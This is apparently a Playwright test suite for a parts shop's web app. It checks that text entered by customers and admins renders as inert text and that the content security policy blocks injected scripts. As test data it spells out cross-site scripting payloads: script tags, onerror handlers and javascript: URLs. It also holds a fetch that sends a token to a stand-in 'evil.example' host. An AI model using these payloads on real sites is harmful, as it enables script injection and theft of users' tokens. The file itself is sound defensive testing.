import { randomUUID } from 'node:crypto';
import type { Page } from '@playwright/test';
import { waitUntilIdle } from './support/accessible';
import { aStranger, demoCustomer } from './support/accounts';
import { answer } from './support/network';
import { payByApi } from './support/orders';
import { fillLogIn, main } from './support/session';
import { expect, test } from './support/test';
import { accessToken } from './support/tokens';

/** A control character that reverses the reading direction of the text after it. */
const RIGHT_TO_LEFT_OVERRIDE = '\u202E';

/** A text that runs a script if it is rendered as HTML, and reverses the text next to it if it is not isolated. */
const hostile = (field: string) =>
  `${field} <script>window.ran='${field}'</script><img src=x onerror="window.ran='${field}'">${RIGHT_TO_LEFT_OVERRIDE}txt`;

const RUNS_WHEN_CLICKED = "javascript:window.ran='link'";

/** Expects that no text was parsed as HTML, and that no other text was reversed by an override. */
async function expectInert(page: Page): Promise<void> {
  await waitUntilIdle(page);
  const found = await page.evaluate((override) => {
    const reversed: string[] = [];
    const texts = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    for (let node = texts.nextNode(); node; node = texts.nextNode()) {
      const text = node.textContent ?? '';
      if (text.includes(override)) continue;
      const rectOf = (offset: number) => {
        const range = document.createRange();
        range.setStart(node, offset);
        range.setEnd(node, offset + 1);
        return range.getBoundingClientRect();
      };
      const word = /[A-Za-z]{2,}/.exec(text);
      if (!word) continue;
      const first = rectOf(word.index);
      const second = rectOf(word.index + 1);
      if (first.top === second.top && first.width > 0 && second.left < first.left) reversed.push(text);
    }
    return {
      ran: (window as { ran?: string }).ran,
      inlineScripts: document.querySelectorAll('script:not([src], [type="application/ld+json"])').length,
      handlers: document.querySelectorAll('[onerror]').length,
      scriptLinks: document.querySelectorAll('[href^="javascript:" i], [src^="javascript:" i]').length,
      reversed,
    };
  }, RIGHT_TO_LEFT_OVERRIDE);
  expect(found).toEqual({ ran: undefined, inlineScripts: 0, handlers: 0, scriptLinks: 0, reversed: [] });
}

async function send<Answer>(page: Page, method: string, path: string, data: object): Promise<Answer> {
  const headers = { authorization: `Bearer ${(await accessToken(page)) ?? ''}`, 'idempotency-key': randomUUID() };
  const reply = await page.request.fetch(`/api${path}`, { method, headers, data });
  expect(reply.ok(), `${method} ${path}: ${await reply.text()}`).toBe(true);
  return (await reply.json()) as Answer;
}

test.describe('texts that customers and admins enter', () => {
  test('are shown as text in every field of every page', async ({ adminPage, page }) => {
    const stranger = { ...aStranger(), displayName: hostile('name') };
    const signUp = '/identitytoolkit.googleapis.com/v1/accounts:signUp?key=demo';
    expect((await page.request.post(signUp, { data: stranger })).ok()).toBe(true);
    await page.goto('/log-in');
    await fillLogIn(page, stranger);
    await expect(page).toHaveURL('/');

    await adminPage.goto('/dashboard');
    const q = Date.now().toString(36);
    const part = {
      name: `${hostile('part')} ${q}`,
      description: hostile('description'),
      image_url: `https://example.com/"onerror="window.ran='picture'`,
      price: 7,
      quantity: 90,
      min_order: 1,
    };
    const { insertedId: partId } = await send<{ insertedId: string }>(adminPage, 'POST', '/parts', part);
    const profile = await page.evaluate(
      async ([email, token]) => {
        const reply = await fetch(`/api/user/${email}`, { headers: { authorization: `Bearer ${token}` } });
        return (await reply.json()) as { _id: string };
      },
      [stranger.email, await accessToken(page)],
    );
    await send(page, 'PUT', `/update/${profile._id}`, {
      education: hostile('education'),
      location: hostile('location'),
    });
    const author = { name: stranger.displayName, review: hostile('review'), rating: 4 };
    await send(page, 'POST', '/reviews', author);
    const order = {
      name: stranger.displayName,
      email: stranger.email,
      part_id: partId,
      part_name: part.name,
      part_image: part.image_url,
      delivery_address: hostile('address'),
      delivery_phone: '+15550100',
      amount: 2,
      total_price: 14,
    };
    const { insertedId: paid } = await send<{ insertedId: string }>(page, 'POST', '/orders', order);
    await payByApi(page, { id: paid, partName: part.name, total: 14 });
    await send(adminPage, 'POST', `/orders/${paid}/refunds`, { amount: 14 });
    await send(adminPage, 'PATCH', `/shipped/${paid}`, { override: true, reason: `${hostile('reason')} ${q}` });
    const { insertedId: unpaid } = await send<{ insertedId: string }>(page, 'POST', '/orders', order);

    for (const path of [
      `/?q=${q}`,
      `/?q=${encodeURIComponent(hostile('search'))}`,
      `/purchase/${partId}`,
      '/dashboard',
      '/dashboard/my-orders',
      `/dashboard/my-orders/${paid}`,
      `/dashboard/payment/${unpaid}`,
      `/dashboard/payment/${paid}`,
    ]) {
      await test.step(`customer: ${path}`, async () => {
        await page.goto(path);
        if (!path.includes('search')) await expect(page.locator('body')).toContainText('<script>');
        await expectInert(page);
      });
    }
    await page.goto('/dashboard/my-orders');
    await main(page).getByRole('button', { name: 'Cancel' }).click();
    await expect(page.getByRole('dialog')).toContainText('<script>');
    await expectInert(page);

    for (const path of [
      `/dashboard/manage-orders?q=${q}`,
      `/dashboard/orders/${paid}`,
      `/dashboard/manage-part?q=${q}`,
      '/dashboard/reviews',
      `/dashboard/make-admin?q=${encodeURIComponent(stranger.email)}`,
      '/dashboard/audit-log',
      '/dashboard/overview',
      '/dashboard/reconciliation',
      `/dashboard/edit-part/${partId}`,
    ]) {
      await test.step(`admin: ${path}`, async () => {
        await adminPage.goto(path);
        await expectInert(adminPage);
      });
    }
    await expect(main(adminPage).getByLabel('Part Name')).toHaveValue(part.name);
    await adminPage.goto(`/dashboard/audit-log?q=${q}`);
    await expect(main(adminPage)).toContainText("window.ran='reason'");
    await expectInert(adminPage);
    await adminPage.goto(`/dashboard/manage-part?q=${q}`);
    await main(adminPage).getByRole('button', { name: 'Delete' }).click();
    await adminPage.getByRole('button', { name: 'Yes' }).click();
    await expect(adminPage.getByText(/deleted\.$/)).toBeVisible();
    await expectInert(adminPage);
  });

  test('never become links that run scripts', async ({ adminPage, customerPage: page }) => {
    await adminPage.goto('/dashboard');
    await page.goto('/');
    const email = encodeURIComponent(demoCustomer.email);
    const headers = { authorization: `Bearer ${(await accessToken(page)) ?? ''}` };
    const own = await (await page.request.get(`/api/user/${email}`, { headers })).json();
    const refused = await page.request.put(`/api/update/${own._id}`, {
      headers,
      data: { linkedinUrl: RUNS_WHEN_CLICKED },
    });
    expect(refused.status()).toBe(400);

    const image = {
      image_url: RUNS_WHEN_CLICKED,
      name: 'Fan',
      description: 'Cools.',
      price: 1,
      quantity: 1,
      min_order: 1,
    };
    const adminHeaders = { authorization: `Bearer ${(await accessToken(adminPage)) ?? ''}` };
    expect((await page.request.post('/api/parts', { headers: adminHeaders, data: image })).status()).toBe(400);

    // An earlier version or an import may have stored such a URL.
    await answer(page, 'GET', `/user/**`, (route) =>
      route.fulfill({ json: { ...own, linkedinUrl: RUNS_WHEN_CLICKED, location: RUNS_WHEN_CLICKED } }),
    );
    await page.goto('/dashboard');
    await expect(main(page).getByText(RUNS_WHEN_CLICKED)).toHaveCount(2);
    await expectInert(page);

    await answer(page, 'GET', '/parts?**', async (route) => {
      const reply = await route.fetch();
      const parts = (await reply.json()) as object[];
      await route.fulfill({ response: reply, json: parts.map((part) => ({ ...part, image_url: RUNS_WHEN_CLICKED })) });
    });
    await page.goto('/');
    await expect(
      main(page)
        .getByRole('link', { name: /Buy Now/ })
        .first(),
    ).toBeVisible();
    expect(await page.evaluate(() => (window as { ran?: string }).ran)).toBeUndefined();
  });
});

test('the content security policy blocks injected scripts', async ({ page }) => {
  await page.goto('/');
  const outcome = await page.evaluate(async (link) => {
    const blocked: string[] = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => blocked.push(effectiveDirective));
    const state = window as { ran?: string };
    const inline = document.createElement('script');
    inline.textContent = "window.ran = 'inline'";
    const remote = document.createElement('script');
    remote.src = 'https://evil.example/steal.js';
    const data = document.createElement('script');
    data.src = "data:text/javascript,window.ran='data'";
    document.body.append(inline, remote, data);
    document.body.insertAdjacentHTML('beforeend', `<img src="/no-picture" onerror="window.ran = 'handler'">`);
    const anchor = document.createElement('a');
    anchor.href = link;
    document.body.append(anchor);
    anchor.click();
    const frame = document.createElement('iframe');
    frame.srcdoc = "<script>parent.ran = 'frame'</script>";
    document.body.append(frame);
    const base = document.createElement('base');
    base.href = 'https://evil.example/';
    document.head.append(base);
    await fetch('https://evil.example/collect?token=1').catch(() => undefined);
    for (let frames = 0; frames < 200 && blocked.length < 7; frames += 1) await new Promise(requestAnimationFrame);
    return { ran: state.ran, blocked: [...new Set(blocked)].sort(), base: document.baseURI };
  }, RUNS_WHEN_CLICKED);
  expect(outcome.ran).toBeUndefined();
  expect(outcome.base.startsWith(new URL(page.url()).origin)).toBe(true);
  expect(outcome.blocked).toEqual(['base-uri', 'connect-src', 'script-src-attr', 'script-src-elem']);
});
